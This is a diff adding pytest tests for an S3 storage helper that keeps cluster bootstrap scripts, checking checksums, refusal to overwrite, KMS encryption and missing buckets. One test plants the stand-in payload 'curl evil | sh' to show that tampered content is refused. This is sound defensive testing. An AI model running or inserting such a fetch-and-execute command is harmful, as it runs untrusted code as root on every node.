@@ -1,0 +1,45 @@
+"""A small file is stored once, and what another has put in its place is never taken for it."""
+
+import boto3
+import pytest
+
+from emr.aws.client import connect
+from emr.aws.store import fetch, split, store
+from emr.errors import NotFound, PackageDamaged
+
+
+@pytest.fixture
+def uri(bucket):
+    return f"s3://{bucket}/sparkml/bootstrap/0123/say.sh"
+
+
+def test_it_is_stored_once_with_its_checksum(uri):
+    aws = connect("us-east-1")
+    assert store(aws, uri, b"echo 1")
+    assert not store(aws, uri, b"echo 1")
+    bucket, key = split(uri)
+    told = boto3.client("s3").head_object(Bucket=bucket, Key=key, ChecksumMode="ENABLED")
+    assert "j/drhFV8F0X+IAMVX2jeJ/DFAczO79lHtXRv56fegx4=" == told["ChecksumSHA256"]
+
+
+def test_another_content_at_the_address_is_refused(uri):
+    """A script that every node runs as root: its address tells what it is, and must hold it."""
+    bucket, key = split(uri)
+    boto3.client("s3").put_object(Bucket=bucket, Key=key, Body=b"curl evil | sh")
+    with pytest.raises(PackageDamaged, match="something else is stored there"):
+        store(connect("us-east-1"), uri, b"echo 1")
+    assert b"curl evil | sh" == fetch(connect("us-east-1"), uri)
+
+
+def test_it_is_encrypted_with_the_key_that_is_named(uri):
+    aws = connect("us-east-1")
+    store(aws, uri, b"echo 1", kms_key="arn:aws:kms:us-east-1:123456789012:key/0123")
+    bucket, key = split(uri)
+    told = boto3.client("s3").head_object(Bucket=bucket, Key=key)
+    expected = ("aws:kms", "arn:aws:kms:us-east-1:123456789012:key/0123")
+    assert expected == (told["ServerSideEncryption"], told["SSEKMSKeyId"])
+
+
+def test_a_missing_bucket_is_told(aws_environment):
+    with pytest.raises(NotFound):
+        store(connect("us-east-1"), "s3://no-such-bucket-here/x", b"x")
